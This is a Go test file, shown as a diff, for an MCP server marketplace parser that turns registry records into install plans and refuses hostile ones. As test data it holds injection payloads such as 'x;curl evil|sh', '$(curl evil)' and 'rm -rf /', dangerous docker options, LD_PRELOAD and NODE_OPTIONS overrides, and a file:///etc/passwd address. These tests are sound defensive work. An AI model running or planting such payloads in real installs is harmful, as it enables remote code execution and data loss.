@@ -1,0 +1,275 @@
+package marketplace
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/drawbridge-mcp/drawbridge/config"
+)
+
+const honest = `{"name":"io.github.me/weather-mcp","description":"d","version":"1.2.3","packages":[{"registryType":"npm","identifier":"@me/weather","version":"1.2.3","runtimeHint":"npx","transport":{"type":"stdio"},
+ "packageArguments":[{"type":"positional","valueHint":"folder","isRequired":true,"isRepeated":true},{"type":"named","name":"--unit","default":"c","choices":["c","f"]},{"type":"named","name":"--quiet"}],
+ "environmentVariables":[{"name":"WEATHER_KEY","isRequired":true,"isSecret":true},{"name":"LEVEL","value":"{level}-x","variables":{"level":{"default":"info"}}},{"name":"OTHER"}]}],
+ "remotes":[{"type":"streamable-http","url":"https://{region}.weather.example/mcp","variables":{"region":{"isRequired":true}},"headers":[{"name":"Authorization","value":"Bearer {token}","isSecret":true,"variables":{"token":{"isRequired":true}}}]}]}`
+
+func TestARecordBecomesAnEntryWithItsSecretsApart(t *testing.T) {
+	r, err := Parse([]byte(honest))
+	if err != nil {
+		t.Fatal(err)
+	}
+	ways := r.Ways()
+	if len(ways) != 2 || ways[0].Runs != "npx" || !ways[0].Pinned || len(ways[0].Fields) != 5 || !ways[0].Fields[2].Secret {
+		t.Fatalf("%+v", ways)
+	}
+	plan, err := r.Install(0, "", map[string]string{"arg.0": "/a\n/b; rm -rf /", "arg.1": "f", "env.WEATHER_KEY": "k$1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := `{"command":"npx","args":["-y","@me/weather@1.2.3","/a","/b; rm -rf /","--unit","f","--quiet"],"env":{"LEVEL":"info-x","WEATHER_KEY":"${secret:WEATHER_WEATHER_KEY}"}}`
+	if string(plan.Entry) != want || plan.Secrets["WEATHER_WEATHER_KEY"] != "k$1" || plan.Label != "weather" {
+		t.Errorf("%s\n%s\n%v", plan.Entry, want, plan.Secrets)
+	}
+	plan, err = r.Install(1, "w", map[string]string{"url.region": "eu", "header.Authorization.token": "t"})
+	if err != nil || string(plan.Entry) != `{"type":"http","url":"https://eu.weather.example/mcp","headers":{"Authorization":"Bearer ${secret:W_TOKEN}"}}` {
+		t.Errorf("%s %v", plan.Entry, err)
+	}
+	for way, values := range []map[string]string{
+		{"arg.0": "--evil", "env.WEATHER_KEY": "k"}, {"url.region": "evil.example/x?", "header.Authorization.token": "t"},
+	} {
+		if _, err := r.Install(way, "", values); err == nil {
+			t.Errorf("%v is taken", values)
+		}
+	}
+	if _, err := r.Install(0, "", map[string]string{"arg.0": "/a"}); err == nil || !strings.Contains(err.Error(), "needed") {
+		t.Error(err)
+	}
+}
+
+// pack1 is a record with one package; the parts are JSON.
+func pack1(kind, identifier, more string) string {
+	return fmt.Sprintf(`{"name":"io.x/y","description":"d","packages":[{"registryType":%q,"identifier":%q,"transport":{"type":"stdio"}%s}]}`, kind, identifier, more)
+}
+
+func TestHostileRecordsAreRefused(t *testing.T) {
+	npm := func(more string) string { return pack1("npm", "good", ","+more) }
+	for name, c := range map[string]struct{ src, want string }{
+		"a name that is an option":     {pack1("npm", "--eval=evil()", ""), "cannot be the name of a package"},
+		"a short option":               {pack1("npm", "-p", ""), "cannot be the name of a package"},
+		"a path":                       {pack1("npm", "../evil", ""), "cannot be the name of a package"},
+		"an address as package":        {pack1("npm", "https://evil.example/x.tgz", ""), "cannot be the name of a package"},
+		"a repository as package":      {pack1("npm", "github:evil/x", ""), "cannot be the name of a package"},
+		"an alias":                     {pack1("npm", "good@npm:evil", ""), "cannot be the name of a package"},
+		"metacharacters":               {pack1("npm", "good; curl evil", ""), "cannot be the name of a package"},
+		"a second line":                {pack1("npm", "good\n--eval", ""), "cannot be the name of a package"},
+		"an option of uvx":             {pack1("pypi", "--from=git+https://evil", ""), "cannot be the name of a package"},
+		"an option of docker":          {pack1("oci", "--privileged", ""), "cannot be the name of a package"},
+		"a version that is an option":  {npm(`"version":"--eval"`), "no single version"},
+		"a version that is a range":    {npm(`"version":"^1.0.0"`), "no single version"},
+		"latest":                       {npm(`"version":"latest"`), "no single version"},
+		"a shell as runtime":           {npm(`"runtimeHint":"bash"`), "run by npx alone"},
+		"a path as runtime":            {npm(`"runtimeHint":"/tmp/npx"`), "run by npx alone"},
+		"another runtime":              {npm(`"runtimeHint":"docker"`), "run by npx alone"},
+		"an unknown type":              {pack1("cargo", "x", ""), "cannot be installed"},
+		"another registry":             {npm(`"registryBaseUrl":"https://evil.example"`), "public registry"},
+		"npx --call":                   {npm(`"runtimeArguments":[{"type":"named","name":"--call","value":"evil"}]`), "is not allowed"},
+		"npx -c":                       {npm(`"runtimeArguments":[{"type":"named","name":"-c","value":"evil"}]`), "is not allowed"},
+		"npx --package":                {npm(`"runtimeArguments":[{"type":"named","name":"--package","value":"evil"}]`), "is not allowed"},
+		"npx --registry":               {npm(`"runtimeArguments":[{"type":"positional","value":"evil"}]`), "is not allowed"},
+		"npx with an option asked for": {npm(`"runtimeArguments":[{"type":"named","name":"--yes","valueHint":"x"}]`), "is not allowed"},
+		"--eval":                       {npm(`"packageArguments":[{"type":"named","name":"--eval","value":"evil"}]`), "run code of its own"},
+		"--require":                    {npm(`"packageArguments":[{"type":"named","name":"--REQUIRE","value":"/tmp/x"}]`), "run code of its own"},
+		"a positional option":          {npm(`"packageArguments":[{"type":"positional","value":"--eval=evil"}]`), "begins with a dash"},
+		"a default that is an option":  {npm(`"packageArguments":[{"type":"positional","default":"-e"}]`), "begins with a dash"},
+		"a name with a space":          {npm(`"packageArguments":[{"type":"named","name":"--a --eval"}]`), "name of an argument"},
+		"a name without dashes":        {npm(`"packageArguments":[{"type":"named","name":"rm"}]`), "name of an argument"},
+		"metacharacters in a value":    {npm(`"packageArguments":[{"type":"named","name":"--a","value":"x;curl evil|sh"}]`), "more than text"},
+		"a substitution":               {npm(`"packageArguments":[{"type":"named","name":"--a","value":"$(curl evil)"}]`), "more than text"},
+		"backticks":                    {npm("\"packageArguments\":[{\"type\":\"named\",\"name\":\"--a\",\"value\":\"`id`\"}]"), "more than text"},
+		"somebody else's secret":       {npm(`"packageArguments":[{"type":"named","name":"--a","value":"${secret:GITHUB_TOKEN}"}]`), "more than text"},
+		"a secret by default":          {npm(`"environmentVariables":[{"name":"A","default":"${env:AWS_SECRET}"}]`), "more than text"},
+		"a secret among choices":       {npm(`"environmentVariables":[{"name":"A","choices":["${secret:X}"]}]`), "more than text"},
+		"a secret in a part":           {npm(`"environmentVariables":[{"name":"A","value":"{x}","variables":{"x":{"value":"${secret:X}"}}}]`), "more than text"},
+		"a second line in a value":     {npm(`"environmentVariables":[{"name":"A","value":"a\nb"}]`), "more than text"},
+		"a published secret":           {npm(`"environmentVariables":[{"name":"A","isSecret":true,"value":"abc"}]`), "everybody can read"},
+		"NODE_OPTIONS":                 {npm(`"environmentVariables":[{"name":"NODE_OPTIONS","value":"x"}]`), "changes how programs start"},
+		"node_options":                 {npm(`"environmentVariables":[{"name":"node_options"}]`), "changes how programs start"},
+		"LD_PRELOAD":                   {npm(`"environmentVariables":[{"name":"LD_PRELOAD"}]`), "changes how programs start"},
+		"DYLD_INSERT_LIBRARIES":        {npm(`"environmentVariables":[{"name":"DYLD_INSERT_LIBRARIES"}]`), "changes how programs start"},
+		"npm_config_registry":          {npm(`"environmentVariables":[{"name":"npm_config_registry"}]`), "changes how programs start"},
+		"PYTHONSTARTUP":                {pack1("pypi", "x", `,"environmentVariables":[{"name":"PYTHONSTARTUP"}]`), "changes how programs start"},
+		"UV_INDEX_URL":                 {pack1("pypi", "x", `,"environmentVariables":[{"name":"UV_INDEX_URL"}]`), "changes how programs start"},
+		"PATH":                         {npm(`"environmentVariables":[{"name":"PATH"}]`), "changes how programs start"},
+		"HTTPS_PROXY":                  {npm(`"environmentVariables":[{"name":"HTTPS_PROXY"}]`), "changes how programs start"},
+		"BASH_ENV":                     {npm(`"environmentVariables":[{"name":"BASH_ENV"}]`), "changes how programs start"},
+		"a variable with =":            {npm(`"environmentVariables":[{"name":"A=B;LD_PRELOAD"}]`), "cannot name an environment variable"},
+		"uvx --from":                   {pack1("pypi", "x", `,"runtimeArguments":[{"type":"named","name":"--from","value":"evil"}]`), "is not allowed"},
+		"docker --privileged":          {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"--privileged"}]`), "is not allowed"},
+		"docker of the whole disk":     {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"-v","value":"/:/host"}]`), "is not allowed"},
+		"docker's socket":              {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"-v","value":"{a}:/var/run/docker.sock","variables":{"a":{}}}]`), "is not allowed"},
+		"docker --network host":        {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"--network","value":"host"}]`), "is not allowed"},
+		"docker --entrypoint":          {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"--entrypoint","value":"sh"}]`), "is not allowed"},
+		"docker -e LD_PRELOAD":         {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"-e","value":"LD_PRELOAD=x"}]`), "is not allowed"},
+		"an address without https":     {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"http://evil.example/mcp"}]}`, "neither https"},
+		"another scheme":               {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"file:///etc/passwd"}]}`, "no address"},
+		"a password in an address":     {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://a:b@evil.example"}]}`, "user or password"},
+		"a secret in an address":       {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://evil.example/${secret:X}"}]}`, "characters"},
+		"a host header":                {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://a.example","headers":[{"name":"Host","value":"b"}]}]}`, "not set by an installation"},
+		"a split header":               {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://a.example","headers":[{"name":"A","value":"b\r\nC: d"}]}]}`, "control characters"},
+		"a path as a name":             {`{"name":"../../x/y","description":"d","remotes":[{"type":"sse","url":"https://a.example"}]}`, "domain/name"},
+		"nothing to install":           {`{"name":"io.x/y","description":"d"}`, "neither a package"},
+		"terminal sequences":           {`{"name":"io.x/y","description":"\u001b[2Jd","remotes":[{"type":"sse","url":"https://a.example"}]}`, "control characters"},
+		"no JSON":                      {`{`, "cannot be read"},
+		"endless":                      {`{"name":"io.x/y","description":"` + strings.Repeat("x", maxRecord) + `"}`, "larger than"},
+	} {
+		if _, err := Parse([]byte(c.src)); err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%s: %v, want %q", name, err, c.want)
+		}
+	}
+}
+
+// Whatever a record says, and whatever a person fills in: what would be run is a program
+// of the list with options of ours first, the package has a sound name, and a secret is
+// named only if it was made for this installation.
+func FuzzRecord(f *testing.F) {
+	f.Add([]byte(honest), "/a", "x")
+	f.Add([]byte(pack1("npm", "--eval", "")), "a", "b")
+	f.Add([]byte(pack1("oci", "ghcr.io/x/y:1", `,"runtimeArguments":[{"type":"named","name":"-e","value":"A={a}","variables":{"a":{"isSecret":true}}}]`)), "v", "w")
+	f.Add([]byte(pack1("npm", "good", `,"environmentVariables":[{"name":"NODE_OPTIONS"}]`)), "v", "w")
+	f.Fuzz(func(t *testing.T, src []byte, a, b string) {
+		r, err := Parse(src)
+		if err != nil {
+			return
+		}
+		for n, way := range r.Ways() {
+			values := map[string]string{}
+			for i, field := range way.Fields {
+				if values[field.Key] = a; i%2 == 1 {
+					values[field.Key] = b
+				}
+				if len(field.Choices) > 0 {
+					values[field.Key] = field.Choices[0]
+				}
+			}
+			plan, err := r.Install(n, "", values)
+			if err != nil {
+				continue
+			}
+			var entry struct {
+				Command string
+				Args    []string
+				Env     map[string]string
+				URL     string
+			}
+			if err := json.Unmarshal(plan.Entry, &entry); err != nil {
+				t.Fatal(err)
+			}
+			if entry.Command == "" {
+				if address(strings.ReplaceAll(entry.URL, "${secret:", "")) != nil {
+					t.Fatalf("the address %q", entry.URL)
+				}
+				continue
+			}
+			if !contains([]string{"npx", "uvx", "docker", "dnx"}, entry.Command) {
+				t.Fatalf("it would run %q", entry.Command)
+			}
+			for name := range entry.Env {
+				if variable(name) != nil {
+					t.Fatalf("it would set %s", name)
+				}
+			}
+			if !strings.Contains(a+b, "${") && strings.Count(string(plan.Entry), "${") != strings.Count(string(plan.Entry), "${secret:") {
+				t.Fatalf("it would expand something: %s", plan.Entry)
+			}
+		}
+	})
+}
+
+func TestWhatComesWithTheProgramCanBeInstalled(t *testing.T) {
+	all, taken := Open(filepath.Join(t.TempDir(), "directory.json")).All()
+	if len(all) < 20 || len(all) > 40 || !taken.IsZero() {
+		t.Fatalf("%d servers, taken %s", len(all), taken)
+	}
+	seen, labels := map[string]bool{}, map[string]string{}
+	for _, e := range all {
+		if other := labels[e.Record.Label()]; other != "" && other != e.Record.Title+" (hosted)" && e.Record.Title != other+" (hosted)" {
+			t.Errorf("%s and %s would both be called %s", other, e.Record.Title, e.Record.Label())
+		}
+		labels[e.Record.Label()] = e.Record.Title
+		if e.Refused != "" || seen[e.Record.Name] || e.Record.Description == "" || e.Record.Title == "" {
+			t.Errorf("%s: %s", e.Record.Name, e.Refused)
+		}
+		seen[e.Record.Name] = true
+		for n, way := range e.Record.Ways() {
+			values := map[string]string{}
+			for _, f := range way.Fields {
+				if f.Required {
+					values[f.Key] = "value"
+				}
+			}
+			plan, err := e.Record.Install(n, "", values)
+			if err != nil {
+				t.Errorf("%s: %v", e.Record.Name, err)
+				continue
+			}
+			c, problems := config.Parse("c.json", []byte(`{"mcpServers":{"x":`+string(plan.Entry)+`}}`))
+			if c == nil || len(c.Servers) != 1 || len(problems) > 0 {
+				t.Errorf("%s: %s: %v", e.Record.Name, plan.Entry, problems)
+			}
+		}
+	}
+}
+
+func TestARefreshIsBoundedAndKeepsTheOldListWhenItFails(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "directory.json")
+	l := Open(path)
+	answer := func(w http.ResponseWriter, r *http.Request) {
+		next, hostile := `"nextCursor":"2"`, ""
+		if r.URL.Query().Get("cursor") == "2" {
+			next, hostile = `"count":1`, `,{"server":`+pack1("npm", "--eval", "")+`},{"server":{"name":"bad"}},{"server":`+honest+`,"_meta":{"io.modelcontextprotocol.registry/official":{"status":"deleted"}}}`
+		}
+		fmt.Fprintf(w, `{"servers":[{"server":{"name":"io.x/s%s","description":"d","remotes":[{"type":"sse","url":"https://a.example"}]}}%s],"metadata":{%s}}`, r.URL.Query().Get("cursor"), hostile, next)
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { answer(w, r) }))
+	defer srv.Close()
+	n, err := l.Refresh(t.Context(), srv.URL)
+	if err != nil || n != 3 {
+		t.Fatal(n, err)
+	}
+	all, taken := l.All()
+	before := len(all)
+	if taken.IsZero() {
+		t.Error("nobody knows when it was taken")
+	}
+	if _, err := l.Find("io.x/s2"); err != nil {
+		t.Error(err)
+	}
+	if e, err := l.Find("io.x/y"); err == nil || !strings.Contains(err.Error(), "cannot be the name") || len(e.Record.Packages) > 0 {
+		t.Errorf("%+v %v", e, err)
+	}
+	for what, f := range map[string]http.HandlerFunc{
+		"an error": func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusInternalServerError) },
+		"no JSON":  func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "<html>") },
+		"endless":  func(w http.ResponseWriter, _ *http.Request) { w.Write(make([]byte, maxSnapshot+2)) },
+		"a way out": func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, "http://evil.example/", http.StatusFound)
+		},
+	} {
+		answer = f
+		if _, err := l.Refresh(t.Context(), srv.URL); err == nil {
+			t.Errorf("%s is taken", what)
+		}
+	}
+	for _, base := range []string{"http://registry.example", "file:///etc", "https://a:b@x.example", "ftp://x"} {
+		if _, err := l.Refresh(t.Context(), base); err == nil {
+			t.Errorf("%s is asked", base)
+		}
+	}
+	if all, _ := Open(path).All(); len(all) != before {
+		t.Errorf("%d servers, there were %d", len(all), before)
+	}
+}
